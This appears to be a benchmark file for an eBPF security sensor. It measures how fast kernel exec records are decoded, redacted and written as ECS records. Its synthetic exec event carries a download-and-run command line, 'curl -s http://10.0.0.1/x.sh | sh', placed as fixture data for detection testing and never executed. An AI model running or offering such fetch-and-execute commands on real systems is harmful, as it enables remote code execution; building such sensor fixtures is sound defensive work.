// The ebpf room: reading a ring in place, decoding a kernel record, writing the ECS record. The ring needs rights to load BPF and is left
// out, with the reason, without them.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { BpfObject } from "#ffi/libbpf";
import { RingBuffer } from "#ffi/ring-buffer";
import { SchemaRegistry } from "#schema";
import { groupFields } from "../../src/ebpf/control-groups.ts";
import { decode } from "../../src/ebpf/decode.ts";
import { DEFAULT_VARIABLES } from "../../src/ebpf/environment.ts";
import type { KernelEvent } from "../../src/ebpf/kernel-event.ts";
import { ProcessTable } from "../../src/ebpf/process-table.ts";
import { ProcessTracker } from "../../src/ebpf/process-tracker.ts";
import { type ProgramFacts, ProgramInspector } from "../../src/ebpf/program-inspector.ts";
import { TextReader } from "../../src/ebpf/program-texts.ts";
import type { RecordContext } from "../../src/ebpf/record-context.ts";
import { RecordWriter } from "../../src/ebpf/record-writer.ts";
import { Redactor } from "../../src/ebpf/redactor.ts";
import { execRecord } from "../ebpf/kernel-record.ts";
import { bestNs, printAlone, type Row, type Section, skipped } from "./row.ts";
import { systemCallRows } from "./system-call.bench.ts";

const ROUNDS = 7;
const TURNS = 20_000;
const RING_BYTES = 4 << 20;
const FORKS = 5000;
const SECOND = 1_000_000_000n;

/** 30 variables, 1.5 KiB, as a login shell has them. */
const ENVIRONMENT: readonly string[] = [
  ...Array.from({ length: 27 }, (_, index) => `VARIABLE_${index}=${"/usr/local/share/x".repeat(1 + (index % 4))}`),
  "SSH_CONNECTION=10.0.0.7 51514 10.0.0.1 22",
  "LD_LIBRARY_PATH=/opt/app/lib",
  "HISTFILE=/root/.bash_history",
];

function measure(name: string, run: () => void): Row {
  return { name, value: bestNs(TURNS, run), unit: "ns" };
}

function execOf(pid: number): Uint8Array {
  const start = BigInt(pid) * SECOND;
  const actor = { pid, startNs: start, ppid: pid - 1, parentStartNs: start - SECOND, comm: "bash" };
  const args = Buffer.from("bash\0-c\0curl -s http://10.0.0.1/x.sh | sh\0");
  // As a daemon of root has them: all.
  const all = (1n << 41n) - 1n;
  const env = Buffer.from(ENVIRONMENT.map((text) => `${text}\0`).join(""));
  const parts = { path: "/usr/bin/bash", cwd: "/var/www/html", filename: "/bin/bash", args, env, effective: all, permitted: all };
  return new Uint8Array(execRecord(actor, parts));
}

function decodeExec(bytes: Uint8Array): Extract<KernelEvent, { kind: "exec" }> {
  const event = decode(bytes, 0, bytes.length);
  if (event?.kind !== "exec") throw new Error("not an exec record");
  return event;
}

function inMemory(): readonly Row[] {
  const tracker = new ProcessTracker(new ProcessTable("boot"), () => undefined);
  for (let pid = 1; pid < 8; pid++) tracker.apply(decodeExec(execOf(pid)));
  const bytes = execOf(8);
  const event = decodeExec(bytes);
  const reader = new TextReader(DEFAULT_VARIABLES, new Redactor());
  const texts = reader.read(event);
  const entry = tracker.apply(event, texts);
  const host = { name: "web-01", id: "6d0c2d9d", bootId: "b", kernel: "6.1.0", architecture: "x86_64" };
  const writer = new RecordWriter(new SchemaRegistry(), host);
  const context: RecordContext = {
    entry,
    parent: entry.ancestors[0],
    sessionLeader: entry.info,
    groupLeader: entry.info,
    previous: undefined,
    policy: undefined,
    texts,
    target: undefined,
    sensor: "raw_tp/sched_process_exec",
    wallOffsetNs: SECOND,
    startOffsetNs: SECOND,
    group: groupFields(`/system.slice/docker-${"3f2a".repeat(16)}.scope`),
    userName: () => "www-data",
    groupName: () => "www-data",
  };
  const loader = "/lib64/ld-linux-x86-64.so.2";
  const elf = { architecture: "x86-64", isStatic: false, isStripped: true, interpreter: loader };
  const file = { pid: 8, ppid: 7, path: "/usr/bin/bash", device: 1, inode: 1n, sizeBytes: 1, changeNs: 1n };
  const program: ProgramFacts = { state: "known", sha256: "ab".repeat(32), elf, isUncertain: false, file, ownPath: "", askedPath: "" };
  const inspector = new ProgramInspector(() => {}, { read() {}, close() {} });
  return [
    measure("kernel record decoded (exec)", () => decodeExec(bytes)),
    measure("arguments and variables read, secrets taken out (exec)", () => reader.read(event)),
    measure("process table updated (exec)", () => tracker.apply(event, texts)),
    measure("ECS record written (exec, 8 ancestors)", () => writer.write(event, context)),
    measure("the same, what is in the file known", () => {
      entry.info.program = program;
      entry.info.packageName = "bash";
      writer.write(event, context);
      entry.info.program = undefined;
      entry.info.packageName = undefined;
    }),
    measure("file of a program looked up, known (exec)", () => inspector.factsOf(event, SECOND)),
  ];
}

function ring(): readonly Row[] {
  using object = BpfObject.open("fork", readFileSync(join(import.meta.dir, "../../build/bpf/fork.bpf.o")));
  try {
    object.setMaxEntries("process_ring", RING_BYTES);
    object.load();
  } catch (error) {
    return skipped("ring buffer", error instanceof Error ? error.message : String(error));
  }
  using reader = new RingBuffer(object.map("process_ring").fd, RING_BYTES);
  using _link = object.attach("kestrel_fork");
  let best = Number.POSITIVE_INFINITY;
  let sum = 0;
  for (let round = 0; round < ROUNDS; round++) {
    Bun.spawnSync(["/bin/sh", "-c", `i=0; while [ $i -lt ${FORKS} ]; do (:); i=$((i+1)); done`]);
    const start = Bun.nanoseconds();
    const count = reader.read((bytes, offset) => {
      sum += bytes[offset]!;
    }, FORKS * 2);
    best = Math.min(best, (Bun.nanoseconds() - start) / count);
  }
  return sum < 0 ? [] : [{ name: "ring buffer read in place", value: best, unit: "ns/event", note: "fork records" }];
}

/** Kernel records. */
export const ebpfSection: Section = { name: "ebpf", rows: () => [...ring(), ...inMemory(), ...systemCallRows()] };

if (import.meta.main) await printAlone(ebpfSection);
